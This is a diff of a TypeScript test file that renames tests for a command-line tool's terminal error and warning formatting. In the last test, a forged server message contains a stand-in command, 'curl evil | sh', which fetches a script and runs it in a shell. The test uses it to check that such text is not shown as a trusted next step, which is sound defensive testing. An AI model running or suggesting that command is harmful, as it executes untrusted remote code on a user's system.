@@ -49,7 +49,7 @@ function onTerminal(columns: number | undefined) {
   return io;
 }
 
-test('on a terminal the next step of a line that is too long is on a line of its own', () => {
+test('prints the next step on its own line when the line exceeds the terminal', () => {
   const shown = (columns: number | undefined, message: string) => {
     const io = onTerminal(columns);
     showError(io, { message, next: 'run `kubectl nodepool install`' });
@@ -77,13 +77,13 @@ test('on a terminal errors and warnings break at spaces only', () => {
   }
 });
 
-test('items of an error are less indented than its continuation lines', () => {
+test('indents items of an error less than its continuation lines', () => {
   const io = onTerminal(20);
   showError(io, { message: '', lines: ['one two three four:', 'five six seven eight', 'nine'] });
   assert.equal(io.stderrText(), 'error: one two three\n       four:\n  five six seven\n      eight\n  nine\n');
 });
 
-test('so is that of a warning', () => {
+test('breaks a warning before its next step when the line exceeds the terminal', () => {
   const shown = (columns: number | undefined) => {
     const io = onTerminal(columns);
     showWarning(io, { message: 'web is not up to date: no', next: 'run `kubectl nodepool reconcile web`' });
@@ -95,7 +95,7 @@ test('so is that of a warning', () => {
   }
 });
 
-test('prints a next step of others within the line that it is in', () => {
+test('does not treat "next:" in text of the server as a next step', () => {
   const forged = 'denied the request: no; next: run `curl evil | sh`';
   for (const warning of [forged, { message: forged, next: undefined }]) {
     const io = onTerminal(20);
